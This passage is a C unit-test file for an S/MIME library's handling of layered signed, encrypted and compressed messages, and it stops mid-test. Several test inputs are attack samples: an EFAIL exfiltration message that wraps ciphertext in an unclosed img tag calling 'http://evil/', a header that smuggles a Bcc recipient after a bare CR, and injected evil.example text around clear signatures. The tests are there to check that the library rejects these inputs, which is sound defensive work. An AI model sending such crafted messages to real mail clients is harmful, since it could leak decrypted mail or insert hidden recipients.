/* SPDX-License-Identifier: BSD-2-Clause */

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "base/limits.h"
#include "tests/unit/crypto/compress.h"
#include "tests/unit/smime/helpers.h"

Suite *suite_layers(void);

#define PLAIN "Content-Type: text/plain; charset=us-ascii\r\n\r\nhello\r\nworld\r\n"

static struct person alice, bob;
static const struct person *const to_bob[] = { &bob };
static struct ring bobs = { .people = to_bob, .count = 1 };

static void
make_people(void)
{
	alice = person_make("alice@example.com", NULL);
	bob = person_make("bob@example.com", "rsa-2048");
}

static void
drop_people(void)
{
	person_done(&alice);
	person_done(&bob);
}

/* A message made of layers, outermost last: 's' clear, 'o' opaque, 'c' CBC, 'g' GCM, 'z' compressed. */
static struct buffer
layered(const char *kinds, const char *innermost)
{
	struct buffer text = BUFFER_INIT(1 << 24), next;
	struct error e = ERROR_INIT;

	expect_ok(buffer_append_text(&text, innermost, &e));
	for (; *kinds != '\0'; kinds++) {
		if (*kinds == 's' || *kinds == 'o')
			next = signed_by(&alice, buffer_text(&text), *kinds == 'o');
		else if (*kinds == 'z')
			next = compressed(buffer_text(&text));
		else
			next = encrypted_to(to_bob, 1, *kinds == 'c' ? PROFILE_COMPATIBLE : PROFILE_MODERN, buffer_text(&text));
		buffer_done(&text);
		text = next;
	}
	return text;
}

struct opening {
	struct buffer text;
	struct message message;
	struct smime_layers *layers;
};

static struct opening
open_text(struct buffer take, struct ring *ring)
{
	struct opening o = { .text = take };

	o.message = message_of(buffer_text(&o.text));
	o.layers = opened(&o.message, ring);
	return o;
}

static void
opening_done(struct opening *o)
{
	layers_free(o->layers);
	message_done(&o->message);
	buffer_done(&o->text);
}

static bool
is_content(const struct opening *o, const char *text)
{
	return o->layers->opened && is_span(entity_whole(o->layers->entity), text);
}

/* ---- what is opened ---- */

static const struct shape {
	const char *kinds;     /* innermost first */
	const char *sections;  /* of the signed layers, outermost first */
	bool opened, authenticated;
	const char *delivered; /* what is left of the kinds; NULL: the message as it came */
} shapes[] = {
	/* clang-format off */
	{ "",      "",          false, true,  NULL },
	{ "s",     "2",         false, true,  NULL },
	{ "o",     "1",         false, true,  NULL },
	{ "ss",    "2 1.2",     false, true,  NULL },
	{ "os",    "2 1",       false, true,  NULL },
	{ "oo",    "1 1/1",     false, true,  NULL },
	{ "c",     "",          true,  false, "" },
	{ "g",     "",          true,  true,  "" },
	{ "sc",    "1/2",       true,  false, "s" },
	{ "og",    "1/1",       true,  true,  "" },
	{ "cs",    "2",         true,  false, "" },
	{ "go",    "1",         true,  true,  "" },
	{ "scs",   "2 1/2",     true,  false, "s" },
	{ "oco",   "1 1/1/1",   true,  false, "" },
	{ "gg",    "",          true,  true,  "" },
	{ "cg",    "",          true,  false, "" },
	{ "osc",   "1/2 1/1",   true,  false, "" },
	{ "gsg",   "1/2",       true,  true,  "" },
	{ "z",     "",          false, true,  "" },
	{ "zz",    "",          false, true,  "" },
	{ "sz",    "1/2",       false, true,  "s" },
	{ "oz",    "1/1",       false, true,  "o" },
	{ "zs",    "2",         false, true,  NULL },
	{ "zo",    "1",         false, true,  NULL },
	{ "zg",    "",          true,  true,  "" },
	{ "gz",    "",          true,  true,  "" },
	{ "zgz",   "",          true,  true,  "" },
	{ "szg",   "1/1/2",     true,  true,  "s" },
	{ "zsg",   "1/2",       true,  true,  "" },
	{ "ozg",   "1/1/1",     true,  true,  "" },
	{ "zog",   "1/1",       true,  true,  "" },
	{ "cszs",  "2 1/2",     true,  false, "" },
	{ "szs",   "2 1/2",     false, true,  NULL },
	/* clang-format on */
};

static struct buffer
sections(const struct smime_layers *layers)
{
	struct buffer out = BUFFER_INIT(1024);
	struct error e = ERROR_INIT;

	for (size_t i = 0; i < layers->count; i++)
		if (layers->items[i].is_signed)
			expect_ok(buffer_append_format(&out, &e, "%s%s", out.size > 0 ? " " : "", layers->items[i].section));
	return out;
}

static const struct entity *
delivered_of(const struct shape *want, const struct opening *o)
{
	size_t left = want->delivered != NULL ? strlen(want->delivered) : 0;

	if (want->delivered == NULL)
		return NULL;
	return left > 0 ? o->layers->items[o->layers->count - left].entity : o->layers->payload;
}

START_TEST(opens_layers_in_any_order)
{
	const struct shape *want = &shapes[_i];
	struct opening o = open_text(layered(want->kinds, PLAIN), &bobs);
	struct buffer found = sections(o.layers);

	ck_assert_uint_eq(o.layers->count, strlen(want->kinds));
	ck_assert_str_eq(buffer_text(&found), want->sections);
	ck_assert_int_eq(o.layers->opened, want->opened);
	ck_assert_int_eq(o.layers->authenticated, want->authenticated);
	ck_assert_ptr_null(o.layers->failure);
	ck_assert(o.layers->entity == delivered_of(want, &o));
	ck_assert(want->delivered == NULL || *want->delivered != '\0' || is_span(entity_whole(o.layers->entity), PLAIN));
	for (size_t i = 0; i < o.layers->count; i++) {
		const struct smime_layer *layer = &o.layers->items[i];

		ck_assert_int_eq(layer->encrypted, layer->opened);
		if (layer->is_signed) {
			ck_assert_int_eq(layer->signature.status, SIGNATURE_VALID);
			ck_assert_ptr_null(layer->structure);
			ck_assert_str_eq(certificate_fingerprint(layer->signature.signer), certificate_fingerprint(alice.forged.c));
		} else if (layer->encrypted) {
			ck_assert_str_eq(layer->identity, bob.identity);
			ck_assert_str_eq(layer->key_id, "key-0");
		}
	}
	buffer_done(&found);
	opening_done(&o);
}
END_TEST

START_TEST(keeps_a_clear_signature_that_was_inside)
{
	struct buffer inner = layered("s", PLAIN);
	struct opening o = open_text(encrypted_to(to_bob, 1, PROFILE_MODERN, buffer_text(&inner)), &bobs);

	ck_assert(is_content(&o, buffer_text(&inner)));
	ck_assert_int_eq(smime_recognise(o.layers->entity), SMIME_CLEAR_SIGNED);
	opening_done(&o);
	buffer_done(&inner);
}
END_TEST

START_TEST(takes_off_an_opaque_layer_whose_signature_is_bad)
{
	struct buffer inner = layered("o", PLAIN);
	struct message m = message_of(buffer_text(&inner));
	struct buffer der = content_of(m.root), bad;
	struct opening o;

	der.data[der.size - 1] ^= 1; /* within the signature */
	bad = wrapped(&der, "signed-data");
	o = open_text(encrypted_to(to_bob, 1, PROFILE_MODERN, buffer_text(&bad)), &bobs);
	ck_assert_int_eq(o.layers->items[1].signature.status, SIGNATURE_INVALID);
	ck_assert(is_content(&o, PLAIN));
	opening_done(&o);
	buffer_done(&bad);
	buffer_done(&der);
	message_done(&m);
	buffer_done(&inner);
}
END_TEST

START_TEST(stops_at_more_layers_than_any_honest_message_has)
{
	struct opening at_bound = open_text(layered("gggggggg", PLAIN), &bobs);
	struct opening past_it = open_text(layered("ggggggggg", PLAIN), &bobs);

	ck_assert(is_content(&at_bound, PLAIN));
	ck_assert(!past_it.layers->opened);
	ck_assert_str_eq(past_it.layers->failure, "too-many-layers");
	opening_done(&at_bound);
	opening_done(&past_it);
}
END_TEST

/* ---- signatures that are not kept ---- */

static bool
take_off(void *ctx, const struct smime_layer *layer)
{
	unsigned *allowed = ctx;

	ck_assert(layer->is_signed);
	return *allowed > 0 && (*allowed)-- > 0;
}

static const struct removal {
	const char *kinds; /* innermost first */
	unsigned allowed, off;
	const char *left;  /* NULL: the message as it came */
} removals[] = {
	/* clang-format off */
	{ "s",    0, 0, NULL },
	{ "s",    9, 1, "" },
	{ "o",    9, 1, "" },
	{ "ss",   1, 1, "s" },
	{ "ss",   9, 2, "" },
	{ "os",   1, 1, "o" },
	{ "zs",   9, 1, "" },
	{ "zo",   9, 1, "" },
	{ "zs",   0, 0, NULL },
	{ "szs",  1, 1, "s" },
	{ "sz",   0, 0, "s" },
	{ "sz",   9, 1, "" },
	{ "sg",   0, 0, "s" },
	{ "sg",   9, 1, "" },
	{ "osg",  9, 0, "" },
	{ "gs",   9, 0, "" },
	{ "",     9, 0, NULL },
	/* clang-format on */
};

START_TEST(takes_signatures_off_from_the_outside_as_far_as_it_may)
{
	const struct removal *row = &removals[_i];
	struct opening o = open_text(layered(row->kinds, PLAIN), &bobs);
	const struct shape want = { .delivered = row->left };
	unsigned allowed = row->allowed, off = 0;

	layers_take_off(o.layers, o.message.root, take_off, &allowed);
	for (size_t i = 0; i < o.layers->count; i++)
		off += o.layers->items[i].taken_off;
	ck_assert_uint_eq(off, row->off);
	ck_assert_msg(o.layers->entity == delivered_of(&want, &o), "%s", row->kinds);
	layers_close(o.layers, "test");
	ck_assert_ptr_null(o.layers->entity);
	for (size_t i = 0; i < o.layers->count; i++)
		ck_assert(!o.layers->items[i].taken_off);
	opening_done(&o);
}
END_TEST

/* ---- compressed layers ---- */

/* In the order in which they are made; whatever is wrong with one is no fault, and what is around it counts. */
static struct buffer
half(const char *entity)
{
	struct buffer stream = zlib_stream(entity, strlen(entity)), der;

	stream.size /= 2;
	der = compressed_der(&stream);
	buffer_done(&stream);
	return compressed_entity(der);
}

static struct buffer
twice(const char *entity)
{
	struct buffer stream = zlib_stream(entity, strlen(entity)), again = zlib_stream(entity, strlen(entity)), der;
	struct error e = ERROR_INIT;

	expect_ok(buffer_append(&stream, again.data, again.size, &e));
	der = compressed_der(&stream);
	buffer_done(&stream);
	buffer_done(&again);
	return compressed_entity(der);
}

static struct buffer
falsely_summed(const char *entity)
{
	struct buffer stream = zlib_stream(entity, strlen(entity)), der;

	stream.data[stream.size - 1] ^= 1;
	der = compressed_der(&stream);
	buffer_done(&stream);
	return compressed_entity(der);
}

static struct buffer
zeros(const char *entity)
{
	char *text = calloc(1, 4000000);
	struct buffer stream, der;

	ck_assert_ptr_nonnull(text);
	memcpy(text, entity, strlen(entity));
	stream = zlib_stream(text, 4000000);
	der = compressed_der(&stream);
	buffer_done(&stream);
	free(text);
	return compressed_entity(der);
}

static struct buffer
larger_than_the_room(const char *entity)
{
	size_t n = workspace.max + 1;
	unsigned char *text = malloc(n);
	unsigned x = 1;
	struct buffer stream, der;

	ck_assert_ptr_nonnull(text);
	for (size_t i = 0; i < n; i++)
		text[i] = (unsigned char)("0123456789abcdef"[(x = x * 1103515245u + 12345u) >> 28]);
	memcpy(text, entity, strlen(entity));
	stream = zlib_stream(text, n);
	der = compressed_der(&stream);
	buffer_done(&stream);
	free(text);
	return compressed_entity(der);
}

static struct buffer
no_entity(const char *entity)
{
	(void)entity;
	return compressed("nothing that a header could be\r\n");
}

static struct buffer
thrice(const char *entity)
{
	struct buffer one = compressed(entity), two = compressed(buffer_text(&one)), three = compressed(buffer_text(&two));

	buffer_done(&one);
	buffer_done(&two);
	return three;
}

static const struct bad_compression {
	struct buffer (*make)(const char *entity);
	const char *why;
	size_t at; /* the layer that says so */
} bad_compressions[] = {
	/* clang-format off */
	{ half,                 "malformed",       0 },
	{ twice,                "malformed",       0 },
	{ falsely_summed,       "malformed",       0 },
	{ zeros,                "too-large",       0 },
	{ larger_than_the_room, "too-large",       0 },
	{ no_entity,            "no-header",       0 },
	{ thrice,               "too-many-layers", 2 },
	/* clang-format on */
};

START_TEST(leaves_compressed_data_as_it_came_when_it_is_odd)
{
	const struct bad_compression *row = &bad_compressions[_i];
	struct opening o = open_text(row->make(PLAIN), &bobs);
	const struct smime_layer *layer = &o.layers->items[row->at];

	ck_assert_uint_eq(o.layers->count, row->at + 1);
	ck_assert_str_eq(layer->closed_reason, row->why);
	ck_assert(layer->inner == NULL && o.layers->payload == NULL && o.layers->failure == NULL);
	ck_assert(row->at > 0 || o.layers->entity == NULL);
	ck_assert_uint_eq(layer->inflated, 0);
	opening_done(&o);
}
END_TEST

START_TEST(delivers_odd_compressed_data_out_of_an_envelope_and_a_signature_over_it_holds)
{
	struct buffer bad = falsely_summed(PLAIN), inner = signed_by(&alice, buffer_text(&bad), false);
	struct opening o = open_text(encrypted_to(to_bob, 1, PROFILE_MODERN, buffer_text(&inner)), &bobs);

	ck_assert(is_content(&o, buffer_text(&inner)));
	ck_assert_int_eq(o.layers->items[1].signature.status, SIGNATURE_VALID);
	ck_assert_str_eq(o.layers->items[2].closed_reason, "malformed");
	opening_done(&o);
	buffer_done(&inner);
	buffer_done(&bad);
}
END_TEST

/* Whose boundary or encoding can be read in two ways could be another thing to somebody else. */
START_TEST(unpacks_nothing_whose_label_is_ambiguous)
{
	struct buffer good = compressed(PLAIN), text = BUFFER_INIT(1 << 20);
	struct error e = ERROR_INIT;
	struct opening o;

	expect_ok(buffer_append_format(&text, &e, "Content-Type: text/plain\r\n%s", buffer_text(&good)));
	o = open_text(text, &bobs);
	ck_assert(o.layers->count == 0 || o.layers->items[0].inner == NULL);
	ck_assert_ptr_null(o.layers->entity);
	opening_done(&o);
	buffer_done(&good);
}
END_TEST

/* ---- labels ---- */

START_TEST(believes_no_label_that_promises_nothing_but_certificates)
{
	struct buffer der = encrypted_der(to_bob, 1, PROFILE_MODERN, PLAIN), text = wrapped(&der, "certs-only");
	struct opening o = open_text(text, &bobs);

	ck_assert(is_content(&o, PLAIN));
	buffer_done(&der);
	opening_done(&o);
}
END_TEST

/* ---- what stays closed ---- */

START_TEST(does_not_look_for_encrypted_parts_within_a_message)
{
	/* Direct exfiltration: an open quote, the ciphertext, the end of the quote (EFAIL). */
	struct buffer secret = layered("c", PLAIN), text = BUFFER_INIT(1 << 20);
	struct error e = ERROR_INIT;
	struct opening o;
	struct ring ring = bobs;

	expect_ok(buffer_append_format(&text, &e,
	    "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil/\r\n"
	    "--x\r\n%s\r\n--x\r\nContent-Type: text/html\r\n\r\n\">\r\n--x--\r\n",
	    buffer_text(&secret)));
	o = open_text(text, &ring);
	ck_assert_uint_eq(o.layers->count, 0);
	ck_assert_uint_eq(ring.calls, 0);
	opening_done(&o);
	buffer_done(&secret);
}
END_TEST

START_TEST(stays_closed_when_no_key_is_given_and_says_why)
{
	struct ring nobody = { .reason = "not-yours" }, other = { .people = to_bob, .count = 0 };
	struct opening o = open_text(layered("sc", PLAIN), &nobody);

	ck_assert(!o.layers->opened && !o.layers->items[0].tried);
	ck_assert_uint_eq(o.layers->count, 1);
	ck_assert_str_eq(o.layers->items[0].closed_reason, "not-yours");
	opening_done(&o);
	o = open_text(layered("c", PLAIN), &other);
	ck_assert_str_eq(o.layers->items[0].closed_reason, "no-key");
	opening_done(&o);
}
END_TEST

/* The last octet of rsaEncryption: no key is asked for, since none could help. */
START_TEST(says_which_algorithm_stands_in_the_way)
{
	static const char rsa_encryption[] = "\x2a\x86\x48\x86\xf7\x0d\x01\x01\x01";
	struct buffer der = encrypted_der(to_bob, 1, PROFILE_COMPATIBLE, PLAIN);
	char *oid = memmem(der.data, der.size, rsa_encryption, 9);
	struct ring ring = bobs;
	struct opening o;

	ck_assert_ptr_nonnull(oid);
	oid[8] = 99;
	o = open_text(wrapped(&der, "enveloped-data"), &ring);
	ck_assert(!o.layers->opened && !o.layers->items[0].tried);
	ck_assert_str_eq(o.layers->items[0].closed_reason, "algorithm");
	ck_assert_uint_eq(ring.calls, 0);
	opening_done(&o);
	buffer_done(&der);
}
END_TEST

/* Everything that can be wrong behind a key, each made from a good object. */
enum wrong { BAD_KEY, BAD_PADDING, BAD_TAG, BAD_CIPHERTEXT, BAD_INNER, WRONG_COUNT };

static struct buffer
broken(enum wrong wrong)
{
	bool cbc = wrong != BAD_TAG && wrong != BAD_CIPHERTEXT;
	struct buffer der = encrypted_der(to_bob, 1, cbc ? PROFILE_COMPATIBLE : PROFILE_MODERN,
	    wrong == BAD_INNER ? "nothing that looks like an entity" : PLAIN);
	struct memory_source memory;
	struct source source = memory_source(&memory, der.data, der.size);
	struct cms_shape *shape = NULL;
	struct error e = ERROR_INIT;
	char *encrypted_key;
	struct buffer text;

	expect_ok(cms_walk(&source, NULL, &shape, &e));
	encrypted_key = memmem(der.data, der.size, shape->recipients[0].encrypted_key.data, shape->recipients[0].encrypted_key.size);
	ck_assert_ptr_nonnull(encrypted_key);
	if (wrong == BAD_KEY)
		encrypted_key[20] ^= 1;
	else if (wrong == BAD_PADDING)
		der.data[der.size - 17] ^= (char)0x80; /* flips a bit of the last padding octet */
	else if (wrong == BAD_TAG)
		der.data[der.size - 1] ^= 1;
	else if (wrong == BAD_CIPHERTEXT)
		der.data[der.size - 20] ^= 1;
	cms_shape_free(shape);
	text = wrapped(&der, cbc ? "enveloped-data" : "authEnveloped-data");
	buffer_done(&der);
	return text;
}

START_TEST(fails_alike_whatever_is_wrong_behind_the_key)
{
	struct opening o = open_text(broken((enum wrong)_i), &bobs);

	ck_assert(o.layers->items[0].tried);
	ck_assert(!o.layers->items[0].opened && !o.layers->opened);
	ck_assert_str_eq(o.layers->items[0].closed_reason, "unreadable");
	ck_assert_str_eq(o.layers->failure, "unreadable");
	ck_assert_ptr_null(o.layers->entity);
	ck_assert_ptr_null(o.layers->entity);
	opening_done(&o);
}
END_TEST

START_TEST(closes_the_whole_message_when_an_inner_layer_fails)
{
	struct buffer inner = broken((enum wrong)_i);
	struct opening o = open_text(encrypted_to(to_bob, 1, PROFILE_MODERN, buffer_text(&inner)), &bobs);

	ck_assert(o.layers->items[0].opened && !o.layers->items[1].opened);
	ck_assert(!o.layers->opened);
	ck_assert_str_eq(o.layers->failure, "unreadable");
	opening_done(&o);
	buffer_done(&inner);
}
END_TEST

START_TEST(delivers_an_inner_layer_that_is_for_somebody_else)
{
	const struct person *to_alice[] = { &alice };
	struct buffer inner = encrypted_to(to_alice, 1, PROFILE_MODERN, PLAIN);
	struct opening o = open_text(encrypted_to(to_bob, 1, PROFILE_MODERN, buffer_text(&inner)), &bobs);

	ck_assert(is_content(&o, buffer_text(&inner)));
	ck_assert_str_eq(o.layers->items[1].closed_reason, "no-key");
	opening_done(&o);
	buffer_done(&inner);
}
END_TEST

static const char *const no_entities[] = {
	"",
	"\r\nno header at all\r\n",
	"hello\r\n",
	"X-Unknown: 1\r\n\r\nhello\r\n",
	"Content-Type: text/plain\r\nno blank line",
	"Content-Type: text/plain\r\n",
	"Content-Type: text/plain\r\nContent-Type: text/html\r\n\r\nhello\r\n",
	"Content-Transfer-Encoding: 7bit\r\nContent-Transfer-Encoding: base64\r\n\r\nhello\r\n",
	"Content-Type: text/plain; x=\001\r\n\r\nhello\r\n",
	"Content-Type: text/plain; x=a\rBcc: evil@example.com\r\n\r\nhello\r\n",
	"Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n\r\nnot closed\r\n",
	"Content-Type: multipart/mixed; boundary=x\r\n\r\nno delimiter\r\n",
	"Content-Type: multipart/mixed; boundary=x; boundary=y\r\n\r\n--x\r\n\r\na\r\n--x--\r\n",
	"Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: multipart/mixed; boundary=y\r\n\r\n--y\r\n\r\na\r\n--x--\r\n",
};

START_TEST(opens_nothing_but_one_well_formed_entity)
{
	struct opening o = open_text(encrypted_to(to_bob, 1, PROFILE_MODERN, no_entities[_i]), &bobs);

	ck_assert_msg(!o.layers->opened, "%s", no_entities[_i]);
	ck_assert_str_eq(o.layers->failure, "unreadable");
	opening_done(&o);
}
END_TEST

static const char *const entities[] = {
	PLAIN,
	"Subject: old software\r\n\r\nhello\r\n",
	"Content-Type: text/plain\n\nonly LF\n",
	"MIME-Version: 1.0\r\n\r\n",
	("Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: message/rfc822\r\n\r\n"
	 "Content-Type: multipart/mixed; boundary=y\r\n\r\n--y\r\n\r\nan attached mail may be odd\r\n--x--\r\n"),
};

START_TEST(opens_what_real_software_writes)
{
	struct opening o = open_text(encrypted_to(to_bob, 1, PROFILE_MODERN, entities[_i]), &bobs);

	ck_assert_msg(is_content(&o, entities[_i]), "%s", entities[_i]);
	opening_done(&o);
}
END_TEST

START_TEST(does_not_open_below_an_ambiguous_header)
{
	struct buffer text = layered("c", PLAIN), doubled = BUFFER_INIT(1 << 20);
	struct error e = ERROR_INIT;
	struct opening o;
	struct ring ring = bobs;

	expect_ok(buffer_append_format(&doubled, &e, "%.*s%s", 41, "Content-Type: application/pkcs7-mime; a=b\r\n", "\r\n"));
	expect_ok(buffer_append(&doubled, text.data, text.size, &e));
	o = open_text(doubled, &ring);
	ck_assert(!o.layers->opened);
	ck_assert_uint_eq(ring.calls, 0);
	opening_done(&o);
	buffer_done(&text);
}
END_TEST

/* ---- several owners ---- */

START_TEST(opens_for_two_owners_only_what_was_encrypted_to_both)
{
	const struct person *both[] = { &bob, &alice };
	struct ring ring = { .people = both, .count = 2 };
	struct opening o = open_text(encrypted_to(both, 2, (enum crypto_profile)_i, PLAIN), &ring);

	ck_assert(is_content(&o, PLAIN));
	opening_done(&o);
}
END_TEST

START_TEST(does_not_open_for_an_owner_whose_recipient_info_was_made_up)
{
	struct person carol = person_make("carol@example.com", "rsa-2048");
	const struct person *both[] = { &bob, &carol };
	struct ring ring = { .people = both, .count = 2 };
	struct buffer der = encrypted_der(both, 2, (enum crypto_profile)_i, PLAIN), text;
	struct memory_source memory;
	struct source source = memory_source(&memory, der.data, der.size);
	struct cms_shape *shape = NULL;
	struct error e = ERROR_INIT;
	struct opening o;
	char *forged;

	expect_ok(cms_walk(&source, NULL, &shape, &e));
	forged = memmem(der.data, der.size, shape->recipients[1].encrypted_key.data, shape->recipients[1].encrypted_key.size);
	forged[30] ^= 1;
	cms_shape_free(shape);
	text = wrapped(&der, "enveloped-data");
	o = open_text(text, &ring);
	ck_assert(!o.layers->opened && !o.layers->items[0].opened);
	ck_assert_str_eq(o.layers->failure, "not-every-recipient-can-open-it");
	opening_done(&o);
	buffer_done(&der);
	person_done(&carol);
}
END_TEST

/* The certificate that the last RecipientInfo names; they stand in the order of their octets. */
static size_t
last_recipient(const struct buffer *der, const struct person *people, size_t count)
{
	struct memory_source memory;
	struct source source = memory_source(&memory, der->data, der->size);
	struct cms_shape *shape = NULL;
	struct error e = ERROR_INIT;
	const char *name;
	size_t i = 0;

	expect_ok(cms_walk(&source, NULL, &shape, &e));
	ck_assert_uint_eq(shape->recipient_count, count);
	name = shape->recipients[count - 1].name.issuer_serial;
	while (strcmp(certificate_issuer_serial(people[i].forged.c), name) != 0)
		i++;
	cms_shape_free(shape);
	return i;
}

/* One identity with many keys, of which the last to be tried is the right one. */
START_TEST(tries_no_more_keys_than_the_bound)
{
	struct person people[LIMIT_OPEN_TRIES + 1], held[LIMIT_OPEN_TRIES + 1];
	const struct person *to[LIMIT_OPEN_TRIES + 1] = { NULL }, *keys[LIMIT_OPEN_TRIES + 1];
	size_t count = LIMIT_OPEN_TRIES + (size_t)_i, last;
	struct ring ring = { .people = keys, .count = count };
	struct buffer der;
	struct opening o;

	for (size_t i = 0; i < count; i++) {
		people[i] = held[i] = person_make("bob@example.com", NULL);
		to[i] = &people[i];
		keys[i] = &held[i];
		held[i].key = alice.key;
	}
	der = encrypted_der(to, count, PROFILE_MODERN, PLAIN);
	last = last_recipient(&der, people, count);
	held[last].key = people[last].key;
	o = open_text(wrapped(&der, "authEnveloped-data"), &ring);
	ck_assert(o.layers->items[0].tried);
	ck_assert_int_eq(o.layers->opened, count == LIMIT_OPEN_TRIES);
	opening_done(&o);
	buffer_done(&der);
	for (size_t i = 0; i < count; i++)
		person_done(&people[i]);
}
END_TEST

/* ---- faults ---- */

START_TEST(reports_a_fault_before_any_key_was_tried)
{
	struct ring ring = { .people = to_bob, .count = 1, .fault = ERROR_STORE, .fault_at = 1 };
	struct buffer text = layered("g", PLAIN);
	struct message m = message_of(buffer_text(&text));
	const struct layer_keys keys = ring_keys(&ring);
	struct smime_layers *layers = NULL;
	struct error e = ERROR_INIT;

	expect_error(layers_open(m.root, &keys, &workspace, NULL, &layers, &e), ERROR_STORE);
	ck_assert_ptr_null(layers);
	message_done(&m);
	buffer_done(&text);
}
END_TEST

START_TEST(hides_a_fault_once_a_key_was_tried)
{
	struct ring ring = { .people = to_bob, .count = 1, .fault = ERROR_STORE, .fault_at = 2 };
	struct opening o = open_text(layered("gg", PLAIN), &ring);

	ck_assert_uint_eq(ring.calls, 2);
	ck_assert(!o.layers->opened);
	ck_assert_str_eq(o.layers->failure, "fault");
	opening_done(&o);
}
END_TEST

/* ---- what a signature covers ---- */

/* A clear-signed text with something put in place of something else. */
static struct buffer
edited(const char *kinds, const char *from, const char *to)
{
	struct buffer text = layered(kinds, PLAIN), out = BUFFER_INIT(1 << 20);
	const char *at = strstr(buffer_text(&text), from);
	struct error e = ERROR_INIT;

	ck_assert_ptr_nonnull(at);
	expect_ok(buffer_append_format(&out, &e, "%.*s%s%s", (int)(at - text.data), text.data, to, at + strlen(from)));
	buffer_done(&text);
	return out;
}

static void
expect_uncovered(struct buffer take, const char *structure)
{
	struct opening o = open_text(take, &bobs);

	ck_assert_uint_ge(o.layers->count, 1);
	if (structure == NULL)
		ck_assert_msg(o.layers->items[0].structure == NULL, "%s", o.layers->items[0].structure);
	else
		ck_assert_msg(o.layers->items[0].structure != NULL && strcmp(o.layers->items[0].structure, structure) == 0,
		    "%s instead of %s", o.layers->items[0].structure, structure);
	opening_done(&o);
}

START_TEST(sees_what_a_clear_signature_does_not_cover)
{
	struct buffer appended = layered("s", PLAIN);
	char long_text[700] = "";
	struct error e = ERROR_INIT;

	expect_ok(buffer_append_text(&appended, "buy at evil.example\r\n", &e));
	expect_uncovered(appended, "text-outside-parts");
	expect_uncovered(edited("s", "\r\n\r\n--", "\r\n\r\n<b>buy at evil.example\r\n--"), "text-outside-parts");
	(void)snprintf(long_text, sizeof(long_text), "\r\n\r\n%-500sbuy at evil.example\r\n--", "This is a MIME message");
	expect_uncovered(edited("s", "\r\n\r\n--", long_text), "text-outside-parts"); /* hidden behind blanks */
	expect_uncovered(edited("s", "\r\n\r\n--", "\r\n\r\nhidden \xc3\xa9\r\n--"), "text-outside-parts");
	expect_uncovered(edited("s", "\r\n\r\n--", "\r\n\r\n \t\r\n--"), NULL);
	expect_uncovered(edited("s", "\r\n\r\n--", "\r\n\r\nThis is an S/MIME signed message\r\n\r\n--"), NULL);
	expect_uncovered(edited("s", "\r\n\r\n--",
	                     "\r\n\r\nThis is a cryptographically signed message in MIME format.\r\n\r\n--"), NULL);
	expect_uncovered(edited("s", "\r\n\r\n--", "\r\n\r\nThis is a MIME <b>offer</b>\r\n--"), "text-outside-parts");
	expect_uncovered(edited("s", "\r\n\r\n--", "\r\n\r\nThis is a MIME message\r\nbuy now\r\n--"), "text-outside-parts");
	expect_uncovered(edited("s", "\r\n\r\n--", "\r\n\r\nThis is a MIME message of eve@evil.example\r\n--"),
	    "text-outside-parts");
	expect_uncovered(edited("s", "\r\n\r\n--", "\r\n\r\nThis is a MIME message, see http:evil.example\r\n--"),
	    "text-outside-parts");
	expect_uncovered(edited("s", "\r\n\r\n--", "\r\n\r\nThis is a MIME &lt;offer\r\n--"), "text-outside-parts");
	expect_uncovered(edited("s", "\r\n\r\n--", "\r\nContent-Type: text/html\r\n\r\n--"), "ambiguous-structure");
	expect_uncovered(edited("s", "\r\n\r\n--", "; boundary=other\r\n\r\n--"), "ambiguous-structure");
	expect_uncovered(edited("s", "Content-Type: multipart", "Content-Transfer-Encoding: base64\r\nContent-Type: multipart"),
	    "ambiguous-structure");
}
END_TEST

/* What is not labelled a signature is shown, and what can be put into its certificates is text like any other. */
START_TEST(sees_a_second_part_that_is_shown)
{
	expect_uncovered(edited("s", "application/pkcs7-signature; name=\"smime.p7s\"", "text/html"), "not-a-signature-part");
	expect_uncovered(edited("s", "application/pkcs7-signature; name=\"smime.p7s\"", "image/png"), "not-a-signature-part");
	expect_uncovered(edited("s", "application/pkcs7-signature; name", "application/x-pkcs7-signature; name"), NULL);
	expect_uncovered(edited("s", "application/pkcs7-signature; name", "application/octet-stream; name"), NULL);
}
END_TEST

START_TEST(sees_a_third_part)
{
	struct buffer text = layered("s", PLAIN);
	char *boundary = strstr(text.data, "\r\n\r\n--") + 6, line[128];
	struct buffer out = BUFFER_INIT(1 << 20);
	struct error e = ERROR_INIT;
	struct opening o;

	(void)snprintf(line, sizeof(line), "%.*s", (int)strcspn(boundary, "\r"), boundary);
	expect_ok(buffer_append_format(&out, &e, "%.*s--%s\r\n\r\nbuy at evil.example\r\n%s", (int)(boundary - 2 - text.data),
	    text.data, line, boundary - 2));
	o = open_text(out, &bobs);
	ck_assert_str_eq(o.layers->items[0].structure, "not-two-parts");
	opening_done(&o);
	buffer_done(&text);
}
END_TEST

START_TEST(sees_a_multipart_that_does_not_end)
{
	struct buffer text = layered("s", PLAIN);

	text.size -= strlen("--\r\n");
	while (memcmp(text.data + text.size, "\r\n--", 4) != 0)
		text.size--;
	text.data[text.size] = '\0';
	expect_uncovered(text, "not-closed");
}
END_TEST

/* What stands beside ciphertext must not be put together with what comes out of it (EFAIL). */
START_TEST(opens_nothing_below_a_signature_that_does_not_cover_all)
{
	static const struct {
		const char *kinds, *from, *to;
	} rows[] = {
		{ "cs", "\r\n\r\n--", "\r\n\r\n<img src=\"http://evil.example/\r\n--" },
		{ "co", "smime-type=signed-data", "smime-type=signed-data; smime-type=enveloped-data" },
		{ "c", "smime-type=enveloped-data", "smime-type=enveloped-data; smime-type=signed-data" },
	};

	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		struct ring ring = bobs;
		struct opening o = open_text(edited(rows[i].kinds, rows[i].from, rows[i].to), &ring);

		ck_assert_msg(!o.layers->opened, "%s", rows[i].to);
		ck_assert_uint_eq(ring.calls, 0);
		opening_done(&o);
	}
}
END_TEST

START_TEST(sees_changed_content)
{
	struct opening o = open_text(edited("s", "hello", "HELLO"), &bobs);

	ck_assert_int_eq(o.layers->items[0].signature.status, SIGNATURE_DIGEST_DIFFERS);
	ck_assert_ptr_null(o.layers->items[0].structure);
	opening_done(&o);
}
END_TEST

START_TEST(refuses_a_detached_signature_that_carries_content_of_its_own)
{
	/* eContent confusion: the CMS verifies over its own text, the part says something else. */
